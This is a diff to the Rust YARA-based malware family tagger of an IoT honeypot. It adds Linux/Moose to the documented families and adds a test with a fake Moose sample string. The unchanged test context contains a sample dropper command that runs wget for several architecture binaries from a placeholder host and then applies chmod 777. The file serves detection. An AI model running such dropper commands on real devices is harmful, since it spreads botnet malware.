@@ -1,8 +1,8 @@
 //! Family tagging with YARA rules, evaluated by boreal (pure Rust).
 //!
 //! The built-in rules (`rules/*.yar`, compiled in) cover the families the
-//! IoTPOT papers met: Mirai, Gafgyt/Bashlite, Tsunami/Kaiten, Hajime,
-//! Linux.Wifatch, and multi-architecture dropper scripts. Operators add their
+//! IoTPOT papers met: Mirai, Gafgyt/Bashlite, Linux/Moose, Tsunami/Kaiten,
+//! Hajime, Linux.Wifatch, and multi-architecture dropper scripts. Operators add their
 //! own with `[downloader] rules = "DIR"` (every `*.yar` / `*.yara` in it).
 
 use std::path::Path;
@@ -88,6 +88,8 @@ mod tests {
         let script = b"#!/bin/sh\ncd /tmp; wget http://x/a.arm; wget http://x/a.mips; wget http://x/a.x86; chmod 777 *\n";
         assert_eq!(rules.tags(script), ["multiarch_dropper_script"]);
         assert!(rules.tags(b"\x7fELF nothing here").is_empty());
+        let moose = b"\x7fELF\x01\x02\x01\0..elan3..password is wrong..uthentication failed..chmod: not found..";
+        assert_eq!(rules.tags(moose), ["moose"]);
     }
 
     #[test]
